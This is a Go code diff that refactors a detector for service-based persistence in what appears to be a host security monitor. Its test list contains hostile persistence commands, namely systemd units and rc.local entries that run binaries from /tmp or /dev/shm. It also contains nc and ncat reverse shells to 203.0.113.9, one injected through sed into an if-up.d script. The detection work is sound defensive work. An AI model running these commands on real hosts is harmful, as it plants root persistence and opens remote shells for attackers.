@@ -15,21 +15,16 @@ import (
 var persistUnit = Detector{
 	ID: "persist.unit", Level: coi.High, Wants: files,
 	Title: "service written", Why: "services start by themselves and as root",
-	Detect: func(ev event.Event, v track.View) []Finding {
-		if f := onCommands(unitCommand)(ev, v); f != nil {
-			return f
+	Detect: firstOf(onCommands(unitCommand), writing(paths.Unit, func(w written, _ track.View) (coi.Level, string) {
+		inline := unitRuns.MatchString(w.text) || w.s != nil && w.s.Name == "sed" && ifUp(w.path) && insertsVar.MatchString(w.text) || !strings.Contains(w.path, "systemd") && hot.MatchString(w.text)
+		if inline {
+			return coi.High, "service that runs inline code or a program in a writable place"
 		}
-		return writing(paths.Unit, func(w written, _ track.View) (coi.Level, string) {
-			inline := unitRuns.MatchString(w.text) || w.s != nil && w.s.Name == "sed" && ifUp(w.path) && insertsVar.MatchString(w.text) || !strings.Contains(w.path, "systemd") && hot.MatchString(w.text)
-			if inline {
-				return coi.High, "service that runs inline code or a program in a writable place"
-			}
-			if w.known && dropIn.MatchString(w.path) && !strings.Contains(w.text, "Exec") {
-				return coi.Info, "settings of a service written"
-			}
-			return coi.Warning, "service written"
-		})(ev, v)
-	},
+		if w.known && dropIn.MatchString(w.path) && !strings.Contains(w.text, "Exec") {
+			return coi.Info, "settings of a service written"
+		}
+		return coi.Warning, "service written"
+	})),
 	Fire: append(append(lines(coi.High, "echo 'python3 -c \"import os\"' >> /etc/init.d/x", "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service", "cat > ~/.config/systemd/user/a.service <<E\n[Service]\nExecStart=/bin/bash -c 'id'\nE", "echo 'nc 203.0.113.9 1 -e sh' >> /etc/rc.local", "echo 'ExecStart=/bin/touch /tmp/art' >> /etc/systemd/system/a.service",
 		"echo '/tmp/x &' | sudo tee -a /etc/rc.local", "printf '[Desktop Entry]\\nExec=/tmp/x\\n' > ~/.config/autostart/x.desktop", "printf '[Service]\\nExecStart=/dev/shm/x\\n' > /tmp/a.service; cp /tmp/a.service /etc/systemd/system/", "systemctl enable /tmp/evil.service", `R="ncat 203.0.113.9 1 -e /bin/sh"; sed -i -e "4i \\$R" /etc/network/if-up.d/upstart`),
 		lines(coi.Warning, "cp my.service /etc/systemd/system/", "echo '[Unit]' > /etc/systemd/system/x.service", "sudo install -m 644 a.service /etc/systemd/system/a.service")...), events(event.Event{Type: event.Create, PID: 3, Exe: "/usr/bin/cp", Path: "/etc/systemd/system/x.service"})...),
